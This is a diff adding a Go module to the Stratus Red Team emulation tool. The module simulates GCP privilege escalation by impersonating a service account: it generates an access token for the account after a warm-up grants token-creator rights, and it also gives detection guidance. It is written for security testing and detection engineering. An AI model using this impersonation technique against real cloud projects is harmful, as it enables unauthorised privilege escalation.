@@ -0,0 +1,121 @@
+package gcp
+
+import (
+	_ "embed"
+	"errors"
+	"github.com/datadog/stratus-red-team/pkg/stratus"
+	"github.com/datadog/stratus-red-team/pkg/stratus/mitreattack"
+	"google.golang.org/api/googleapi"
+	"google.golang.org/api/iamcredentials/v1"
+	"net/http"
+	"strconv"
+	"time"
+)
+
+//go:embed main.tf
+var tf []byte
+
+//go:embed sigma.yml
+var sigma []byte
+
+func init() {
+	stratus.GetRegistry().RegisterAttackTechnique(&stratus.AttackTechnique{
+		ID:           "gcp.privilege-escalation.impersonate-service-account",
+		FriendlyName: "Impersonate a GCP Service Account",
+		Description: `
+Escalates privileges by impersonating a service account, i.e. by generating a short-lived access token for it.
+
+Warm-up:
+
+- Create a service account
+- Allow the current identity to impersonate it, through the <code>roles/iam.serviceAccountTokenCreator</code> role
+
+Detonation:
+
+- Generate an access token for the service account, valid for ` + tokenLifetimeDescription + `
+
+Access tokens of service accounts cannot be revoked. Reverting the detonation reports when the generated access token expires.
+`,
+		Detection: `
+Using GCP Data Access audit logs of the IAM Service Account Credentials API, through the <code>GenerateAccessToken</code> event.
+Note that Data Access audit logs are not enabled by default.
+`,
+		SigmaRules:                 sigma,
+		Platform:                   stratus.GCP,
+		IsIdempotent:               true,
+		MitreAttackTactics:         []mitreattack.Tactic{mitreattack.PrivilegeEscalation},
+		PrerequisitesTerraformCode: tf,
+		RequiredOutputs:            []string{"service_account_email"},
+		Detonate:                   detonate,
+		Revert:                     revert,
+	})
+}
+
+// IAM permissions take some time to propagate after the warm-up
+const maxPropagationDelay = 2 * time.Minute
+
+// Delay between attempts while IAM permissions propagate
+const propagationRetryInterval = 10 * time.Second
+
+// Lifetime of the generated access token, kept short since it cannot be revoked
+const tokenLifetime = 10 * time.Minute
+const tokenLifetimeDescription = "10 minutes"
+
+// Name of the detonation output holding the expiration time of the generated access token
+const tokenExpirationOutput = "access_token_expiration"
+
+func detonate(execution *stratus.ExecutionContext) error {
+	serviceAccountEmail := execution.Parameters["service_account_email"]
+	credentialsClient, err := iamcredentials.NewService(execution.Context, execution.GCP.Options()...)
+	if err != nil {
+		return errors.New("unable to instantiate the GCP IAM Credentials client: " + err.Error())
+	}
+
+	execution.Logger.Println("Impersonating service account " + serviceAccountEmail + " by generating an access token")
+	request := &iamcredentials.GenerateAccessTokenRequest{
+		Scope:    []string{"https://www.googleapis.com/auth/cloud-platform"},
+		Lifetime: strconv.Itoa(int(tokenLifetime.Seconds())) + "s",
+	}
+	var token *iamcredentials.GenerateAccessTokenResponse
+	deadline := time.Now().Add(maxPropagationDelay)
+	for {
+		token, err = credentialsClient.Projects.ServiceAccounts.GenerateAccessToken("projects/-/serviceAccounts/"+serviceAccountEmail, request).Context(execution.Context).Do()
+		if apiErr, ok := err.(*googleapi.Error); ok && apiErr.Code == http.StatusForbidden && time.Now().Before(deadline) {
+			execution.Logger.Println("Permission denied, waiting for IAM permissions to propagate")
+			timer := time.NewTimer(propagationRetryInterval)
+			select {
+			case <-execution.Context.Done():
+				timer.Stop()
+				return errors.New("unable to impersonate service account: " + execution.Context.Err().Error())
+			case <-timer.C:
+			}
+			continue
+		}
+		break
+	}
+	if err != nil {
+		return errors.New("unable to impersonate service account: " + err.Error())
+	}
+
+	execution.SetOutput(tokenExpirationOutput, token.ExpireTime)
+	execution.Logger.Println("Successfully generated an access token for service account " + serviceAccountEmail + ", expiring at " + token.ExpireTime)
+	return nil
+}
+
+func revert(execution *stratus.ExecutionContext) error {
+	serviceAccountEmail := execution.Parameters["service_account_email"]
+	expiration, err := time.Parse(time.RFC3339, execution.Parameters[tokenExpirationOutput])
+	if err != nil {
+		execution.Logger.Println("Access tokens of service accounts cannot be revoked, the access token generated for " +
+			serviceAccountEmail + " expires at most " + tokenLifetimeDescription + " after the detonation")
+		return nil
+	}
+
+	if time.Now().Before(expiration) {
+		execution.Logger.Println("Access tokens of service accounts cannot be revoked, the access token generated for " +
+			serviceAccountEmail + " expires at " + expiration.Format(time.RFC3339))
+	} else {
+		execution.Logger.Println("The access token generated for " + serviceAccountEmail + " has already expired")
+	}
+	return nil
+}